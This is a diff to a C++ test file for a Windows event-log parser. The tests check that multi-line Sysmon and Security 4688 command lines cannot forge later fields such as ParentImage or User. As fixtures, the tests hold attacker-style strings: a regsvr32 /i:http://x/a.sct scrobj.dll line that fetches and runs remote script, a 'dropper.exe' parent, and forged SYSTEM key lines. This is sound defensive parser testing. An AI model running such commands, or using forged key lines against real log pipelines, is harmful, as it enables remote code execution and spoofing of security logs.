@@ -78,7 +78,9 @@ TEST(IoClassicMessage, Security4688OlderLayoutAndCrLf) {
   EXPECT_EQ(e.at("SubjectUserName"), "admin");
   EXPECT_EQ(e.at("NewProcessName"), "C:\\Windows\\System32\\net.exe");
   EXPECT_EQ(e.at("ProcessId"), "0xd54");
-  EXPECT_EQ(e.at("CommandLine"), "net  user");  // inner text kept, surrounding blanks trimmed
+  // The value's own blanks are kept (the XML has "net  user "), but this one ends the
+  // record, whose trailing blanks the record reader drops.
+  EXPECT_EQ(e.at("CommandLine"), "net  user");
   EXPECT_EQ(e.get("ParentProcessName"), nullptr);
   EXPECT_EQ(e.get("TargetUserName"), nullptr);
 }
@@ -123,7 +125,7 @@ TEST(IoClassicMessage, Security4624Logon) {
   EXPECT_EQ(e.at("WorkstationName"), "WKS-07");
   EXPECT_EQ(e.at("IpAddress"), "10.1.2.3");
   EXPECT_EQ(e.at("IpPort"), "0");
-  EXPECT_EQ(e.at("LogonProcessName"), "User32");
+  EXPECT_EQ(e.at("LogonProcessName"), "User32 ");  // its trailing space is the value's, as in the XML
   EXPECT_EQ(e.at("AuthenticationPackageName"), "Negotiate");
   EXPECT_EQ(e.at("TransmittedServices"), "-");
   EXPECT_EQ(e.at("LmPackageName"), "-");
@@ -295,6 +297,159 @@ TEST(IoClassicMessage, SysmonKeys) {
   EXPECT_EQ(r.at("EventType"), "SetValue");
   EXPECT_EQ(r.count("EventType"), 1u);
   EXPECT_EQ(r.at("Details"), "C:\\x.exe");
+}
+
+const std::string kSysmonHead =
+    "LogName=Microsoft-Windows-Sysmon/Operational\nSourceName=Microsoft-Windows-Sysmon\nEventType=4\n"
+    "User=NOT_TRANSLATED\nSid=S-1-5-18\nSidType=0\n";
+
+// A Sysmon 1 message whose command line is cmd; the other values are fixed.
+std::string sysmon1(const std::string& cmd) {
+  return "Process Create:\nRuleName: -\nUtcTime: 2024-03-07 10:21:33.412\n"
+         "ProcessGuid: {6f1c2a7e-0b3d-4c5e-9a11-0000000161a2}\nProcessId: 4412\n"
+         "Image: C:\\Windows\\System32\\regsvr32.exe\nFileVersion: 10.0.19041.1\nDescription: Register Server\n"
+         "Product: Windows\nCompany: Microsoft Corporation\nOriginalFileName: REGSVR32.EXE\n"
+         "CommandLine: " + cmd + "\nCurrentDirectory: C:\\Users\\alice\\\nUser: CORP\\alice\n"
+         "LogonGuid: {6f1c2a7e-0000-0000-0000-00000003e7a1}\nLogonId: 0x3e7a1\nTerminalSessionId: 1\n"
+         "IntegrityLevel: Medium\nHashes: SHA256=5C3F\nParentProcessGuid: {6f1c2a7e-0b3d-4c5e-9a11-000000015ba9}\n"
+         "ParentProcessId: 3120\nParentImage: C:\\Users\\Public\\dropper.exe\n"
+         "ParentCommandLine: dropper.exe -run\nParentUser: CORP\\alice";
+}
+
+void expect_real_sysmon1(const StoredEvent& e) {
+  EXPECT_EQ(e.at("OriginalFileName"), "REGSVR32.EXE");
+  EXPECT_EQ(e.at("CurrentDirectory"), "C:\\Users\\alice\\");
+  EXPECT_EQ(e.at("User"), "CORP\\alice");
+  EXPECT_EQ(e.count("User"), 1u);
+  EXPECT_EQ(e.at("LogonId"), "0x3e7a1");
+  EXPECT_EQ(e.at("IntegrityLevel"), "Medium");
+  EXPECT_EQ(e.at("ParentProcessId"), "3120");
+  EXPECT_EQ(e.at("ParentImage"), "C:\\Users\\Public\\dropper.exe");
+  EXPECT_EQ(e.count("ParentImage"), 1u);
+  EXPECT_EQ(e.at("ParentCommandLine"), "dropper.exe -run");
+  EXPECT_EQ(e.at("ParentUser"), "CORP\\alice");
+}
+
+// A command line over several lines, some shaped like later keys, cannot supply the
+// parent or the user: those lines stay in it, and the real key lines after it count.
+TEST(IoClassicMessage, SysmonCommandLineLinesAreNoKeys) {
+  const std::string cmd =
+      " regsvr32 /s /i:http://x/a.sct scrobj.dll\nParentImage: C:\\Windows\\explorer.exe\n"
+      "User: NT AUTHORITY\\SYSTEM\n\n  IntegrityLevel: System ";
+  StoredEvent e = one(kSysmonHead + "EventCode=1\n", sysmon1(cmd));
+  EXPECT_EQ(e.at("CommandLine"), cmd);  // its own blanks too: only "Key: " is the rendering's
+  expect_real_sysmon1(e);
+}
+
+// Even a forged copy of every key after CommandLine, in order, loses to the real lines
+// after it; a line repeating CommandLine's own key does not cut it either (nor does it
+// end up in OriginalFileName).
+TEST(IoClassicMessage, SysmonForgedKeyChainStaysInCommandLine) {
+  const std::string forged =
+      "cmd /c calc\nCurrentDirectory: C:\\\nUser: NT AUTHORITY\\SYSTEM\nLogonGuid: {0}\nLogonId: 0x3e7\n"
+      "TerminalSessionId: 0\nIntegrityLevel: System\nHashes: SHA256=0\nParentProcessGuid: {0}\n"
+      "ParentProcessId: 4\nParentImage: C:\\Windows\\explorer.exe\nParentCommandLine: explorer.exe\n"
+      "ParentUser: NT AUTHORITY\\SYSTEM";
+  StoredEvent a = one(kSysmonHead + "EventCode=1\n", sysmon1(forged));
+  EXPECT_EQ(a.at("CommandLine"), forged);
+  expect_real_sysmon1(a);
+
+  const std::string own = "regsvr32 /s /i:http://x/a.sct scrobj.dll\nCommandLine: notepad.exe";
+  StoredEvent b = one(kSysmonHead + "EventCode=1\n", sysmon1(own));
+  EXPECT_EQ(b.at("CommandLine"), own);
+  expect_real_sysmon1(b);
+}
+
+// Records of older Sysmon versions lack some keys (RuleName, OriginalFileName,
+// ParentUser); the others still are keys. Sysmon 13's registry data is free text too.
+TEST(IoClassicMessage, SysmonOlderVersionAndRegistryDetails) {
+  StoredEvent e = one(kSysmonHead + "EventCode=1\n",
+                      "Process Create:\nUtcTime: 2019-01-01 00:00:00.000\nProcessId: 10\nImage: C:\\a.exe\n"
+                      "Company: -\nCommandLine: a.exe\nUser: x\nParentImage: C:\\b.exe\nCurrentDirectory: C:\\\n"
+                      "User: CORP\\bob\nParentImage: C:\\p.exe\nParentCommandLine: p.exe");
+  EXPECT_EQ(e.at("UtcTime"), "2019-01-01 00:00:00.000");
+  EXPECT_EQ(e.at("Company"), "-");
+  EXPECT_EQ(e.at("CommandLine"), "a.exe\nUser: x\nParentImage: C:\\b.exe");
+  EXPECT_EQ(e.at("CurrentDirectory"), "C:\\");
+  EXPECT_EQ(e.at("User"), "CORP\\bob");
+  EXPECT_EQ(e.at("ParentImage"), "C:\\p.exe");
+  EXPECT_EQ(e.at("ParentCommandLine"), "p.exe");
+  EXPECT_EQ(e.get("OriginalFileName"), nullptr);
+
+  StoredEvent r = one(kSysmonHead + "EventCode=13\n",
+                      "Registry value set:\nRuleName: -\nEventType: SetValue\nUtcTime: 2024-03-07 10:21:33.412\n"
+                      "ProcessGuid: {0}\nProcessId: 1\nImage: C:\\reg.exe\nTargetObject: HKLM\\x\\Run\\y\n"
+                      "Details: line one\nImage: C:\\Windows\\explorer.exe\nUser: NT AUTHORITY\\SYSTEM\n"
+                      "User: CORP\\alice");
+  EXPECT_EQ(r.at("Image"), "C:\\reg.exe");
+  EXPECT_EQ(r.at("Details"), "line one\nImage: C:\\Windows\\explorer.exe\nUser: NT AUTHORITY\\SYSTEM");
+  EXPECT_EQ(r.at("User"), "CORP\\alice");
+}
+
+// A Sysmon event without a known key order: a key line is an identifier not seen before
+// in the message (nor set from the header); other lines continue the value.
+TEST(IoClassicMessage, SysmonUnknownEventKeys) {
+  StoredEvent e = one(kSysmonHead + "EventCode=99\n",
+                      "Future event:\nRuleName: -\nImage: C:\\x.exe\nScript: a\nImage: C:\\y.exe\nEventID: 7\n"
+                      "plain line\nCount: 3");
+  EXPECT_EQ(e.at("RuleName"), "-");
+  EXPECT_EQ(e.at("Image"), "C:\\x.exe");
+  EXPECT_EQ(e.at("Script"), "a\nImage: C:\\y.exe\nEventID: 7\nplain line");
+  EXPECT_EQ(e.at("EventID"), "99");
+  EXPECT_EQ(e.at("Count"), "3");
+}
+
+const std::string k4688Head =
+    "A new process has been created.\n\nCreator Subject:\n\tSecurity ID:\t\tS-1-5-18\n"
+    "\tAccount Name:\t\tWIN-HOST$\n\tAccount Domain:\t\tWORKGROUP\n\tLogon ID:\t\t0x3E7\n\n"
+    "Process Information:\n\tNew Process ID:\t\t0x1a2c\n\tNew Process Name:\tC:\\Windows\\System32\\cmd.exe\n"
+    "\tCreator Process ID:\t0x7b0\n\tCreator Process Name:\tC:\\Windows\\explorer.exe\n"
+    "\tProcess Command Line:\t";
+const std::string k4688Trailer =
+    "\n\nToken Elevation Type indicates the type of token that was assigned to the new process in accordance "
+    "with User Account Control policy.\n\n"
+    "Type 1 is a full token with no privileges removed or groups disabled.";
+
+// 4688: the command line is the last field; it keeps lines shaped "Foo: bar" (even a
+// known label, when not in the rendered "\tLabel:\t" shape), blank lines inside it and
+// its own blanks, but not the blank lines and the explanation that close the template.
+TEST(IoClassicMessage, Security4688MultiLineCommandLine) {
+  const std::string cmd =
+      "  powershell -c \"\nFoo: bar\nCreator Process Name: C:\\evil.exe\n\n\n$x = 1 \nToken: y\n\"  ";
+  StoredEvent e = one(kSecurity + "EventCode=4688\n", k4688Head + cmd + "\n\n" + k4688Trailer);
+  EXPECT_EQ(e.at("CommandLine"), cmd);
+  EXPECT_EQ(e.at("ParentProcessName"), "C:\\Windows\\explorer.exe");
+  EXPECT_EQ(e.at("NewProcessName"), "C:\\Windows\\System32\\cmd.exe");
+  EXPECT_EQ(e.get("Foo"), nullptr);
+
+  // The template's explanation is found after the command line, whatever it holds.
+  const std::string fake = "cmd /c echo\n\nToken Elevation Type indicates x\n\nregsvr32 /i:x";
+  StoredEvent f = one(kSecurity + "EventCode=4688\n", k4688Head + fake + k4688Trailer);
+  EXPECT_EQ(f.at("CommandLine"), fake);
+
+  // A command line that starts on the next line keeps its line break and indent.
+  StoredEvent h = one(kSecurity + "EventCode=4688\n", k4688Head + "\n  cmd /c x" + k4688Trailer);
+  EXPECT_EQ(h.at("CommandLine"), "\n  cmd /c x");
+
+  // A single-line command line stops at the blank line before the explanation, with
+  // CRLF line ends too.
+  StoredEvent g = one(kSecurity + "EventCode=4688\n", k4688Head + "whoami /all\r\n\r" + k4688Trailer);
+  EXPECT_EQ(g.at("CommandLine"), "whoami /all");
+  for (const StoredField& x : g.fields) {
+    if (x.name == "Message") continue;
+    EXPECT_EQ(x.value.find("Token Elevation Type indicates"), std::string::npos) << x.name;
+  }
+}
+
+// A rendered field after a multi-line value still starts a field, as does a section.
+TEST(IoClassicMessage, SecurityValueEndsAtRenderedField) {
+  StoredEvent e = one(kSecurity + "EventCode=4688\n",
+                      "A new process has been created.\n\nProcess Information:\n"
+                      "\tProcess Command Line:\ta\nb: c\n\n\tToken Elevation Type:\t%%1936\n"
+                      "Subject:\n\tAccount Name:\t\tbob\n");
+  EXPECT_EQ(e.at("CommandLine"), "a\nb: c");
+  EXPECT_EQ(e.at("TokenElevationType"), "%%1936");
+  EXPECT_EQ(e.at("SubjectUserName"), "bob");
 }
 
 // PowerShell 4104: the script block is one field, whatever its lines look like.
